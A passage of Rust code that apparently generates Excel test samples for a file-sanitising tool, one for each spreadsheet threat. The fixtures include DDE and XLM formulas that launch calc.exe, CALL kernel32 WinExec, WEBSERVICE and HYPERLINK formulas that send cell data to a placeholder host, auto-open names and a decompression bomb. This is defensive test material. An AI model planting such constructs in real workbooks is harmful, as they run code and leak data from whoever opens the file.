//! Excel workbooks: the base workbook and one sample for each threat of the area `xlsx`.

use super::{
    archive::deflate_repeated,
    media::{base64, png},
    package::{MICROSOFT, Package, escape},
};
use crate::sample::{Index, Marks};

const WORKBOOK: &str = "xl/workbook.xml";
const SHEET: &str = "xl/worksheets/sheet1.xml";

/// The content type of an Excel part.
pub fn sheet_type(kind: &str) -> String {
    format!("application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml")
}

/// The namespaces an Excel part's root declares.
pub const NAMESPACES: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" \
    xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
    xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" \
    xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" \
    xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" \
    xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" \
    xmlns:x15=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/main\" \
    xmlns:x15ac=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac\" mc:Ignorable=\"x15 x15ac\"";

/// A workbook of one sheet with the KEEP marker in A1 and a number in B1.
pub fn xlsx(m: &Marks) -> Package {
    Package::default()
        .default_type("png", "image/png")
        .part(
            WORKBOOK,
            &sheet_type("sheet.main"),
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<workbook {NAMESPACES}{{{{ns}}}}>{{{{first}}}}<workbookPr{{{{properties}}}}/>{{{{early}}}}<sheets>\
                 <sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>{{{{sheets}}}}</sheets>{{{{references}}}}<definedNames><definedName name=\"KeptName\">Sheet1!$A$1</definedName>{{{{names}}}}</definedNames>{{{{workbook}}}}</workbook>"
            ),
        )
        .part(
            SHEET,
            &sheet_type("worksheet"),
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<worksheet {NAMESPACES}{{{{ns}}}}>{{{{properties}}}}<sheetData>\
                 <row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\"><v>42.5</v></c></row>{{{{rows}}}}</sheetData>{{{{after}}}}\
                 <pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\" header=\"0.3\" footer=\"0.3\"/>{{{{tail}}}}</worksheet>"
            ),
        )
        .part(
            "xl/styles.xml",
            &sheet_type("styles"),
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<styleSheet {NAMESPACES}>{{{{formats}}}}<fonts count=\"1\"><font><sz val=\"11\"/><name val=\"Calibri\"/></font></fonts>\
                 <fills count=\"2\"><fill><patternFill patternType=\"none\"/></fill><fill><patternFill patternType=\"gray125\"/></fill></fills>\
                 <borders count=\"1\"><border><left/><right/><top/><bottom/><diagonal/></border></borders>\
                 <cellStyleXfs count=\"1\"><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/></cellStyleXfs>\
                 <cellXfs><xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\"/>{{{{xfs}}}}</cellXfs>\
                 <cellStyles count=\"1\"><cellStyle name=\"Normal\" xfId=\"0\" builtinId=\"0\"/></cellStyles></styleSheet>"
            ),
        )
        .part(
            "xl/sharedStrings.xml",
            &sheet_type("sharedStrings"),
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>{}</t></si></sst>",
                m.keep
            ),
        )
        .relate("", "rId1", "officeDocument", "xl/workbook.xml")
        .relate(WORKBOOK, "rId1", "worksheet", "worksheets/sheet1.xml")
        .relate(WORKBOOK, "rId2", "styles", "styles.xml")
        .relate(WORKBOOK, "rId3", "sharedStrings", "sharedStrings.xml")
}

/// A row with one formula and its cached value.
pub fn formula_row(row: u32, formula: &str, cached: &str) -> String {
    format!(
        "<row r=\"{row}\"><c r=\"A{row}\" t=\"str\"><f>{}</f><v>{}</v></c></row>",
        escape(formula),
        escape(cached)
    )
}

/// The base workbook with one formula in A2 whose cached value is the second KEEP.
fn with_formula(m: &Marks, formula: &str) -> Vec<u8> {
    xlsx(m).fill(SHEET, "rows", &formula_row(2, formula, &format!("cached {}", m.keep))).zip()
}

/// A further part the workbook refers to.
fn with_workbook_part(
    m: &Marks,
    kind: &str,
    name: &str,
    content_type: &str,
    body: impl Into<Vec<u8>>,
) -> Package {
    xlsx(m).part(&format!("xl/{name}"), content_type, body).relate(WORKBOOK, "rIdPlanted", kind, name)
}

/// A second sheet of another kind under the workbook's `sheets`.
fn with_sheet(m: &Marks, kind: &str, name: &str, content_type: &str, body: String) -> Package {
    with_workbook_part(m, kind, name, content_type, body).fill(
        WORKBOOK,
        "sheets",
        "<sheet name=\"Planted\" sheetId=\"2\" r:id=\"rIdPlanted\"/>",
    )
}

/// The samples of the area `xlsx`.
pub fn samples(index: &mut Index) {
    index.benign("benign.xlsx", "xlsx", |m| {
        xlsx(m).fill(SHEET, "rows", "<row r=\"2\"><c r=\"A2\"><f>SUM(B1:B1)</f><v>42.5</v></c></row>").zip()
    });
    index.benign("benign.xlsx", "xlsx", |m| xlsx(m).strict().zip()).variant("strict");
    sheets(index);
    formulas(index);
    links(index);
    data(index);
    workbook(index);
    sheet_contents(index);
}

fn sheets(index: &mut Index) {
    index.absent("xlsx.xlm-macrosheet", "xlsm", |m| {
        macro_sheet(m, "xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml")
    });
    index.absent("xlsx.xlm-intl-macrosheet", "xlsm", |m| {
        macro_sheet(m, "xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml")
    });
    index.absent("xlsx.dialogsheet", "xlsx", |m| {
        with_sheet(
            m,
            "dialogsheet",
            "dialogsheets/sheet1.xml",
            &sheet_type("dialogsheet"),
            format!("<dialogsheet {NAMESPACES}><sheetPr codeName=\"{}\"/></dialogsheet>", m.kill),
        )
        .zip()
    });
    index.stays("xlsx.sheet-veryhidden", "xlsx", |m| {
        with_workbook_part(
            m,
            "worksheet",
            "worksheets/sheet2.xml",
            &sheet_type("worksheet"),
            format!("<worksheet {NAMESPACES}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{}</t></is></c></row></sheetData></worksheet>", m.kill),
        )
        .fill(WORKBOOK, "sheets", "<sheet name=\"Hidden\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rIdPlanted\"/>")
        .zip()
    })
    .also(&["ooxml.hidden-content"]);
}

fn macro_sheet(m: &Marks, kind: &str, content_type: &str) -> Vec<u8> {
    let body = format!(
        "<xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>ALERT(\"{}\")</f></c></row><row r=\"2\"><c r=\"A2\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>",
        m.kill
    );
    with_sheet(m, &format!("{MICROSOFT}{kind}"), "macrosheets/sheet1.xml", content_type, body)
        .retype(WORKBOOK, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        .zip()
}

fn formulas(index: &mut Index) {
    index
        .absent("xlsx.dde-formula", "xlsx", |m| with_formula(m, &format!("cmd|'/C calc.exe {}'!A0", m.kill)));
    index
        .absent("xlsx.dde-formula", "xlsx", |m| {
            with_formula(m, &format!(r"MSEXCEL|'\..\..\{}.exe'!''", m.kill))
        })
        .variant("path");
    index
        .absent("xlsx.formula-direct-remote-ref", "xlsx", |m| {
            with_formula(m, &format!("'https://{}/[b.xlsx]S'!A1", m.host))
        })
        .also(&["xlsx.external-workbook-link"]);
    index
        .absent("xlsx.formula-direct-remote-ref", "xlsx", |m| {
            with_formula(m, &format!(r"'\\{}\s\[b.xlsx]S'!A1", m.host))
        })
        .variant("unc")
        .also(&["xlsx.external-workbook-link"]);
    index.absent("xlsx.webservice-and-network-functions", "xlsx", |m| {
        with_formula(m, &format!("_xlfn.WEBSERVICE(\"https://{}/?d=\"&A1)", m.host))
    });
    index
        .absent("xlsx.webservice-and-network-functions", "xlsx", |m| {
            with_formula(m, &format!("_xlfn.IMAGE(\"https://{}/p.png\")", m.host))
        })
        .variant("image");
    index.absent("xlsx.hyperlink-function", "xlsx", |m| {
        with_formula(m, &format!("HYPERLINK(\"https://{}/?\"&A1,\"cached {}\")", m.host, m.keep))
    });
    index
        .absent("xlsx.hyperlink-function", "xlsx", |m| {
            with_formula(
                m,
                &format!("HYPERLINK(\"file:///c:/windows/{}.exe\",\"cached {}\")", m.kill, m.keep),
            )
        })
        .variant("file");
    index
        .absent("xlsx.rtd-volatile-dependencies", "xlsx", |m| {
            with_workbook_part(
                m,
                "volatileDependencies",
                "volatileDependencies.xml",
                &sheet_type("volatileDependencies"),
                format!("<volTypes {NAMESPACES}><volType type=\"realTimeData\"><main first=\"{}.Server\"><tp><v>1</v><stp/><stp>x</stp><tr r=\"A2\" s=\"1\"/></tp></main></volType></volTypes>", m.kill),
            )
            .fill(SHEET, "rows", &formula_row(2, &format!("RTD(\"{}.Server\",,\"x\")", m.kill), &m.keep))
            .zip()
        })
        .also(&["xlsx.webservice-and-network-functions"]);
    index.absent("xlsx.call-register-id", "xlsx", |m| {
        with_formula(m, &format!("REGISTER.ID(\"kernel32\",\"{}\")", m.kill))
    });
    index
        .absent("xlsx.call-register-id", "xlsx", |m| {
            with_formula(m, &format!("CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"{}\",0)", m.kill))
        })
        .variant("call");
    index.absent("xlsx.addin-function-prefix", "xlsx", |m| {
        with_formula(m, &format!("_xll.{}(1)", m.kill.replace(['-', '.'], "_")))
    });
    index.absent("xlsx.auto-open-names", "xlsx", |m| {
        xlsx(m)
            .fill(WORKBOOK, "names", &format!("<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\" xlm=\"1\" function=\"1\" vbProcedure=\"1\" comment=\"{}\">Sheet1!$A$1</definedName>", m.kill))
            .zip()
    });
    index
        .absent("xlsx.auto-open-names", "xlsx", |m| {
            xlsx(m)
                .fill(
                    WORKBOOK,
                    "names",
                    &format!(
                        "<definedName name=\"Auto_Close{0}\" comment=\"{0}\">Sheet1!$A$1</definedName>",
                        m.kill
                    ),
                )
                .zip()
        })
        .variant("close");
    index
        .absent("xlsx.xlm-in-defined-names", "xlsx", |m| {
            xlsx(m)
                .fill(
                    WORKBOOK,
                    "names",
                    &format!("<definedName name=\"Planted\">EXEC(\"{} calc.exe\")</definedName>", m.kill),
                )
                .fill(SHEET, "rows", &formula_row(2, "Planted", &m.keep))
                .zip()
        })
        .also(&["xlsx.call-register-id"]);
    index.absent("xlsx.python-in-excel", "xlsx", |m| {
        with_workbook_part(
            m,
            "http://schemas.microsoft.com/office/2023/09/relationships/Python",
            "python.xml",
            "application/vnd.ms-excel.python+xml",
            format!("<python xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2023/python\"><environmentDefinition id=\"{}\"/></python>", m.kill),
        )
        .fill(SHEET, "rows", &formula_row(2, &format!("_xlfn._xlws.PY(\"print('{}')\",0)", m.kill), &m.keep))
        .zip()
    })
    .also(&["xlsx.webservice-and-network-functions"]);
    index.absent("xlsx.formula-parser-depth", "xlsx", |m| {
        let depth = 5000;
        let formula = format!("{}\"{}\"{}", "IF(1,".repeat(depth), m.kill, ")".repeat(depth));
        with_formula(m, &formula)
    });
    index.absent("xlsx.cf-dv-chart-formulas", "xlsx", |m| {
        xlsx(m)
            .fill(
                SHEET,
                "after",
                &format!(
                    "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>WEBSERVICE(\"https://{0}/cf\")=1</formula></cfRule></conditionalFormatting>\
                     <dataValidations count=\"1\"><dataValidation type=\"custom\" sqref=\"B1\"><formula1>WEBSERVICE(\"https://{0}/dv\")=1</formula1></dataValidation></dataValidations>",
                    m.host
                ),
            )
            .zip()
    })
    .also(&["xlsx.webservice-and-network-functions"]);
    index.absent("xlsx.image-formula", "xlsx", |m| {
        with_shape(
            m,
            &format!("textlink=\"[1]S!{}\"", m.kill),
            &format!(
                "<a:extLst><a:ext uri=\"{{C183D7F6-B498-43B3-948B-1728B52AA6E4}}\"><aif:imageFormula xmlns:aif=\"http://schemas.microsoft.com/office/drawing/2022/imageformula\" formula=\"=IMAGE(&quot;https://{}&quot;)\"/></a:ext></a:extLst>",
                m.host
            ),
        )
        .zip()
    })
    .also(&["opc.extlst-unknown-uri", "xlsx.formula-direct-remote-ref", "xlsx.external-workbook-link", "xlsx.cf-dv-chart-formulas"]);
}

/// A workbook whose sheet has one shape with further attributes and children.
pub fn with_shape(m: &Marks, attributes: &str, properties: &str) -> Package {
    drawing(
        m,
        &format!(
            "<xdr:sp macro=\"\" {attributes}><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"Shape\">{properties}</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr>\
             <xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p><a:r><a:t>shape {}</a:t></a:r></a:p></xdr:txBody></xdr:sp>",
            m.keep
        ),
    )
}

/// A workbook whose sheet has a drawing with one anchored object.
pub fn drawing(m: &Marks, object: &str) -> Package {
    let object = object.replacen("macro=\"\" macro=", "macro=", 1);
    xlsx(m)
        .part(
            "xl/drawings/drawing1.xml",
            "application/vnd.openxmlformats-officedocument.drawing+xml",
            format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xdr:wsDr {NAMESPACES}><xdr:twoCellAnchor><xdr:from><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>2</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>\
                 <xdr:to><xdr:col>4</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>6</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>{object}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
            )
            .replace(&format!("xmlns=\"{}\" ", "http://schemas.openxmlformats.org/spreadsheetml/2006/main"), ""),
        )
        .relate(SHEET, "rIdDrawing", "drawing", "../drawings/drawing1.xml")
        .fill(SHEET, "tail", "<drawing r:id=\"rIdDrawing\"/>")
}

fn external_book(m: &Marks, content: &str) -> Package {
    with_workbook_part(
        m,
        "externalLink",
        "externalLinks/externalLink1.xml",
        &sheet_type("externalLink"),
        format!("<externalLink {NAMESPACES}>{content}</externalLink>"),
    )
    .fill(
        WORKBOOK,
        "references",
        "<externalReferences><externalReference r:id=\"rIdPlanted\"/></externalReferences>",
    )
}

const LINK: &str = "xl/externalLinks/externalLink1.xml";

fn links(index: &mut Index) {
    index.absent("xlsx.ddelink-part", "xlsx", |m| {
        external_book(
            m,
            &format!("<ddeLink ddeService=\"cmd\" ddeTopic=\"/C calc.exe {}\"><ddeItems><ddeItem name=\"A0\" advise=\"1\" preferPic=\"1\"/></ddeItems></ddeLink>", m.kill),
        )
        .fill(SHEET, "rows", &formula_row(2, "[1]!A0", &format!("cached {}", m.keep)))
        .zip()
    })
    .also(&["xlsx.dde-formula"]);
    index.absent("xlsx.olelink-part", "xlsx", |m| {
        external_book(m, &format!("<oleLink r:id=\"rIdO\" progId=\"{}\"><oleItems><oleItem name=\"i\" advise=\"1\" icon=\"1\"/></oleItems></oleLink>", m.kill))
            .external(LINK, "rIdO", "oleObject", &format!("file:///{}", m.unc("x")))
            .zip()
    });
    index.absent("xlsx.external-workbook-link", "xlsx", |m| {
        external_book(
            m,
            "<externalBook r:id=\"rIdB\"><sheetNames><sheetName val=\"S\"/></sheetNames><sheetDataSet><sheetData sheetId=\"0\"><row r=\"1\"><cell r=\"A1\" t=\"str\"><v>x</v></cell></row></sheetData></sheetDataSet></externalBook>",
        )
        .external(LINK, "rIdB", "externalLinkPath", &m.unc("b.xlsx"))
        .fill(SHEET, "rows", &formula_row(2, "[1]S!A1", &format!("cached {}", m.keep)))
        .zip()
    });
    index
        .absent("xlsx.external-workbook-link", "xlsx", |m| {
            external_book(
                m,
                "<externalBook r:id=\"rIdB\"><sheetNames><sheetName val=\"S\"/></sheetNames></externalBook>",
            )
            .external(LINK, "rIdB", &format!("{MICROSOFT}xlExternalLinkPath/xlStartup"), &m.url("b.xlsx"))
            .zip()
        })
        .variant("startup");
    index.absent("xlsx.external-book-alternate-urls", "xlsx", |m| {
        external_book(
            m,
            "<externalBook r:id=\"rIdB\"><sheetNames><sheetName val=\"S\"/></sheetNames><extLst><ext uri=\"{00000000-0000-0000-0000-000000000021}\"><xxl21:alternateUrls xmlns:xxl21=\"http://schemas.microsoft.com/office/spreadsheetml/2021/extlinks2021\"><xxl21:absoluteUrl r:id=\"rIdA\"/></xxl21:alternateUrls></ext></extLst></externalBook>",
        )
        .external(LINK, "rIdB", "externalLinkPath", "b.xlsx")
        .external(LINK, "rIdA", "http://schemas.microsoft.com/office/2019/04/relationships/externalLinkLongPath", &m.url("b.xlsx"))
        .zip()
    })
    .also(&["xlsx.external-workbook-link"]);
}

fn data(index: &mut Index) {
    index.absent("xlsx.connections", "xlsx", |m| {
        connection(m, &format!("<webPr url=\"{}\" sourceData=\"1\"/>", m.url("q"))).zip()
    });
    index
        .absent("xlsx.connections", "xlsx", |m| {
            connection(
                m,
                &format!("<dbPr connection=\"Provider=x;Data Source={}\" command=\"{}\"/>", m.host, m.kill),
            )
            .strict()
            .zip()
        })
        .variant("strict");
    index
        .absent("xlsx.query-tables", "xlsx", |m| {
            connection(m, "")
                .part(
                    "xl/queryTables/queryTable1.xml",
                    &sheet_type("queryTable"),
                    format!(
                        "<queryTable {NAMESPACES} name=\"{}\" refreshOnLoad=\"1\" connectionId=\"1\"/>",
                        m.kill
                    ),
                )
                .relate(SHEET, "rIdQuery", "queryTable", "../queryTables/queryTable1.xml")
                .zip()
        })
        .also(&["xlsx.connections"]);
    index
        .absent("xlsx.power-query-datamashup", "xlsx", |m| {
            let formulas =
                base64(format!("section Section1; x = Web.Contents(\"{}\");", m.url("")).as_bytes());
            connection(
                m,
                &format!(
                    "<dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;{}\"/>",
                    m.kill
                ),
            )
            .part(
                "customXml/item1.xml",
                "application/xml",
                format!(
                    "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">{formulas}</DataMashup>"
                ),
            )
            .relate(WORKBOOK, "rIdMashup", "customXml", "../customXml/item1.xml")
            .zip()
        })
        .also(&["ooxml.custom-xml-parts", "xlsx.connections"]);
    index.absent("xlsx.data-model", "xlsx", |m| {
        with_workbook_part(
            m,
            "http://schemas.microsoft.com/office/2011/relationships/powerPivotData",
            "model/item.data",
            "application/vnd.openxmlformats-officedocument.model+data",
            m.kill.as_bytes(),
        )
        .fill(
            WORKBOOK,
            "workbook",
            "<extLst><ext uri=\"{FCE2AD5D-F65C-4FA6-A056-5C36A1767C68}\"><x15:dataModel><x15:modelTables><x15:modelTable id=\"t\" name=\"t\" connection=\"c\"/></x15:modelTables></x15:dataModel></ext></extLst>",
        )
        .zip()
    })
    .also(&["opc.bin-part-unknown"]);
    index.absent("xlsx.pivot-cache-external", "xlsx", |m| {
        with_workbook_part(
            m,
            "pivotCacheDefinition",
            "pivotCache/pivotCacheDefinition1.xml",
            &sheet_type("pivotCacheDefinition"),
            format!(
                "<pivotCacheDefinition {NAMESPACES} refreshOnLoad=\"1\" refreshedBy=\"{}\" recordCount=\"0\"><cacheSource type=\"worksheet\"><worksheetSource ref=\"A1:B2\" sheet=\"S\" r:id=\"rIdS\"/></cacheSource><cacheFields count=\"0\"/></pivotCacheDefinition>",
                m.kill
            ),
        )
        .external("xl/pivotCache/pivotCacheDefinition1.xml", "rIdS", "externalLinkPath", &m.unc("b.xlsx"))
        .fill(WORKBOOK, "workbook", "<pivotCaches><pivotCache cacheId=\"1\" r:id=\"rIdPlanted\"/></pivotCaches>")
        .zip()
    });
    index.absent("xlsx.data-consolidation", "xlsx", |m| {
        xlsx(m)
            .fill(SHEET, "after", "<dataConsolidate link=\"1\"><dataRefs count=\"1\"><dataRef ref=\"A1:B2\" r:id=\"rIdD\"/></dataRefs></dataConsolidate>")
            .external(SHEET, "rIdD", "externalLinkPath", &m.unc("b.xlsx"))
            .zip()
    });
    index.absent("xlsx.xml-maps", "xlsx", |m| {
        with_workbook_part(
            m,
            "xmlMaps",
            "xmlMaps.xml",
            "application/xml",
            format!(
                "<MapInfo xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" SelectionNamespaces=\"\"><Schema ID=\"S1\" SchemaRef=\"{0}\"/><Map ID=\"1\" Name=\"m\" RootElement=\"r\" SchemaID=\"S1\" ShowImportExportValidationErrors=\"0\" AutoFit=\"1\" Append=\"0\" PreserveSortAFLayout=\"1\" PreserveFormat=\"1\">\
                 <DataBinding FileBinding=\"1\" FileBindingName=\"{0}\" ConnectionID=\"1\" DataBindingLoadMode=\"1\"/></Map></MapInfo>",
                m.url("d.xml")
            ),
        )
        .zip()
    });
    index.absent("xlsx.rich-data-web-images", "xlsx", |m| {
        with_workbook_part(
            m,
            "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage",
            "richData/rdRichValueWebImage.xml",
            "application/vnd.ms-excel.rdrichvaluewebimage+xml",
            format!("<webImagesSrd xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage\" {}><webImageSrd><address r:id=\"rIdI\"/></webImageSrd></webImagesSrd>", "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""),
        )
        .external("xl/richData/rdRichValueWebImage.xml", "rIdI", "hyperlink", &m.url("i.png"))
        .zip()
    });
    index.absent("xlsx.office-forms-survey", "xlsx", |m| {
        with_workbook_part(
            m,
            "http://schemas.microsoft.com/office/2010/relationships/Survey",
            "survey.xml",
            "application/vnd.ms-excel.survey+xml",
            format!("<x15:survey {NAMESPACES} id=\"{}\"/>", m.kill),
        )
        .fill(
            WORKBOOK,
            "workbook",
            &format!("<extLst><ext uri=\"{{00000000-0000-0000-0000-000000000022}}\"><xlmsforms:msForm xmlns:xlmsforms=\"http://schemas.microsoft.com/office/spreadsheetml/2023/msForms\" id=\"{}\" isFormConnected=\"1\"/></ext></extLst>", m.kill),
        )
        .zip()
    })
    .also(&["opc.extlst-unknown-uri"]);
    index.absent("xlsx.shared-workbook-revisions", "xlsx", |m| {
        with_workbook_part(
            m,
            "revisionHeaders",
            "revisions/revisionHeaders.xml",
            &sheet_type("revisionHeaders"),
            format!("<headers {NAMESPACES} guid=\"{{11111111-1111-1111-1111-111111111111}}\"><header guid=\"{{11111111-1111-1111-1111-111111111112}}\" dateTime=\"2024-01-01T00:00:00\" maxSheetId=\"2\" userName=\"u\" r:id=\"rIdLog\"/></headers>"),
        )
        .part(
            "xl/revisions/revisionLog1.xml",
            &sheet_type("revisionLog"),
            format!("<revisions {NAMESPACES}><rcc rId=\"1\" sId=\"1\"><nc r=\"A1\"><f>cmd|'/C {}'!A0</f></nc></rcc></revisions>", m.kill),
        )
        .relate("xl/revisions/revisionHeaders.xml", "rIdLog", "revisionLog", "revisionLog1.xml")
        .zip()
    });
}

fn connection(m: &Marks, connection: &str) -> Package {
    with_workbook_part(
        m,
        "connections",
        "connections.xml",
        &sheet_type("connections"),
        format!(
            "<connections {NAMESPACES}><connection id=\"1\" name=\"{}\" type=\"4\" refreshedVersion=\"3\" refreshOnLoad=\"1\" background=\"1\" saveData=\"1\">{connection}</connection></connections>",
            m.kill
        ),
    )
}

fn workbook(index: &mut Index) {
    index.absent("xlsx.abs-path-and-file-recovery", "xlsx", |m| {
        xlsx(m)
            .fill(WORKBOOK, "first", &format!("<fileSharing userName=\"{}\"/>", m.kill))
            .fill(
                WORKBOOK,
                "early",
                &format!("<mc:AlternateContent><mc:Choice Requires=\"x15\"><x15ac:absPath url=\"{}\"/></mc:Choice></mc:AlternateContent>", m.unc(r"home\taro\")),
            )
            .fill(WORKBOOK, "workbook", "<fileRecoveryPr repairLoad=\"1\"/>")
            .zip()
    });
    index.absent("xlsx.calc-settings", "xlsx", |m| {
        xlsx(m)
            .fill(
                WORKBOOK,
                "workbook",
                "<calcPr calcId=\"1\" fullCalcOnLoad=\"1\" forceFullCalc=\"1\" iterate=\"1\"/>",
            )
            .zip()
    });
    index.absent("xlsx.update-links-flag", "xlsx", |m| {
        xlsx(m)
            .fill(
                WORKBOOK,
                "properties",
                " updateLinks=\"always\" saveExternalLinkValues=\"1\" refreshAllConnections=\"1\"",
            )
            .zip()
    });
    index.absent("xlsx.web-publishing", "xlsx", |m| {
        xlsx(m)
            .fill(WORKBOOK, "workbook", &format!("<webPublishing codePage=\"{}\"/><webPublishObjects count=\"1\"><webPublishObject id=\"1\" divId=\"d\" destinationFile=\"{}\" autoRepublish=\"1\"/></webPublishObjects>", 932, m.unc("p.htm")))
            .fill(SHEET, "tail", &format!("<webPublishItems count=\"1\"><webPublishItem id=\"1\" divId=\"d\" sourceType=\"sheet\" destinationFile=\"{}\" autoRepublish=\"1\"/></webPublishItems>", m.unc("p.htm")))
            .zip()
    });
}

fn sheet_contents(index: &mut Index) {
    index.absent("xlsx.form-control-macro", "xlsx", |m| {
        xlsx(m)
            .part(
                "xl/ctrlProps/ctrlProp1.xml",
                "application/vnd.ms-excel.controlproperties+xml",
                format!("<formControlPr xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" objectType=\"Button\" lockText=\"1\" fmlaMacro=\"[0]!{}\"/>", m.kill),
            )
            .relate(SHEET, "rIdControl", "ctrlProp", "../ctrlProps/ctrlProp1.xml")
            .fill(
                SHEET,
                "tail",
                &format!("<mc:AlternateContent><mc:Choice Requires=\"x14\"><controls><mc:AlternateContent><mc:Choice Requires=\"x14\"><control shapeId=\"1025\" r:id=\"rIdControl\" name=\"Button 1\"><controlPr defaultSize=\"0\" print=\"0\" macro=\"[0]!{}\"><anchor><from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></from><to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></to></anchor></controlPr></control></mc:Choice></mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>", m.kill),
            )
            .zip()
    })
    .also(&["xlsx.ole-and-control-lists", "ooxml.chart-user-shapes-macro"]);
    index.absent("xlsx.custom-property-bin", "xlsx", |m| {
        xlsx(m)
            .part(
                "xl/customProperty1.bin",
                &sheet_type("customProperty").replace("+xml", ""),
                m.kill.as_bytes(),
            )
            .relate(SHEET, "rIdProperty", "customProperty", "../customProperty1.bin")
            .fill(
                SHEET,
                "tail",
                "<customProperties><customPr name=\"p\" r:id=\"rIdProperty\"/></customProperties>",
            )
            .zip()
    });
    index.absent("xlsx.protected-range-security-descriptor", "xlsx", |m| {
        xlsx(m)
            .fill(SHEET, "after", &format!("<sheetProtection sheet=\"1\"/><protectedRanges><protectedRange sqref=\"A1\" name=\"r\" securityDescriptor=\"O:BAG:{}\"/></protectedRanges>", m.kill))
            .zip()
    });
    index
        .either("xlsx.sheet-dimension-bomb", "xlsx", |m| {
            xlsx(m)
                .fill(SHEET, "rows", "<row r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A1:XFD1048576\" si=\"0\">B1*2</f><v>85</v></c></row>")
                .fill(SHEET, "after", "<mergeCells count=\"1000000\"><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>")
                .zip()
        });
    index
        .refused("xlsx.sheet-dimension-bomb", "xlsx", |m| {
            let mut archive = xlsx(m).archive();
            let sheet = archive.members.iter_mut().find(|member| member.name == SHEET);
            if let Some(sheet) = sheet {
                let body = String::from_utf8_lossy(&sheet.body).into_owned();
                let (head, tail) = body.split_once("</sheetData>").unwrap_or_default();
                let row = "<row r=\"2\"><c r=\"A2\" s=\"0\"><v>1</v></c></row>".repeat(1000);
                let tail = format!("</sheetData>{tail}");
                sheet.deflated =
                    Some(deflate_repeated(head.as_bytes(), row.as_bytes(), 60_000, tail.as_bytes()));
            }
            archive.bytes()
        })
        .variant("rows")
        .also(&["file.global-expansion-budget", "opc.zip-bomb-part"]);
    index.absent("xlsx.hyperlink-elements", "xlsx", |m| {
        xlsx(m)
            .fill(SHEET, "after", &format!("<hyperlinks><hyperlink ref=\"A1\" location=\"{}[b.xlsx]S!A1\" tooltip=\"{}\"/><hyperlink ref=\"B1\" r:id=\"rIdH\"/></hyperlinks>", m.unc(""), m.kill))
            .external(SHEET, "rIdH", "hyperlink", &format!("file:///c:/{}.exe", m.kill))
            .zip()
    })
    .also(&["ooxml.hyperlink-executable-or-local"]);
    index.absent("xlsx.ole-and-control-lists", "xlsx", |m| {
        xlsx(m)
            .item("xl/media/image1.png", png([10, 120, 10]))
            .part("xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", super::compound_object(&m.kill))
            .relate(SHEET, "rIdO", "oleObject", "../embeddings/oleObject1.bin")
            .relate(SHEET, "rIdP", "image", "../media/image1.png")
            .fill(
                SHEET,
                "tail",
